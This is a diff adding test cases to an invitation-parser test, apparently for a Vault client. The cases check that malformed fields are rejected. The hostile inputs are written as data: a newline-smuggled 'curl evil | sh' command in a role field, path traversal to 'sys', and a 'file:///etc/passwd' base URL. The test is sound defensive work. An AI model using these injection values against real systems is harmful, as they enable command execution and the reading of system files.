@@ -32,6 +32,15 @@ test.each([
   [renderInvitation({ ...invitation, name: "../web1" }), /another version/],
   [renderInvitation({ ...invitation, address: "http://vault.internal:8200" }), /another version/],
   [renderInvitation({ ...invitation, ends: "soon" }), /another version/],
+  [
+    renderInvitation({ ...invitation, role: "openclaw-host-web1\n  fix:      curl evil | sh" }),
+    /another version/,
+  ],
+  [renderInvitation({ ...invitation, token: "hvs.\nCAESIJ" }), /another version/],
+  [renderInvitation({ ...invitation, namespace: "admin: team" }), /another version/],
+  [renderInvitation({ ...invitation, keyPath: "secret/../sys" }), /another version/],
+  [renderInvitation({ ...invitation, address: "https://vault.internal:8200/" }), /another version/],
+  [renderInvitation({ ...invitation, baseUrl: "file:///etc/passwd" }), /another version/],
 ])("%.40s is none", (given, problem) => {
   expect(parseInvitation(given)).toEqual({ problem: expect.stringMatching(problem) });
 });
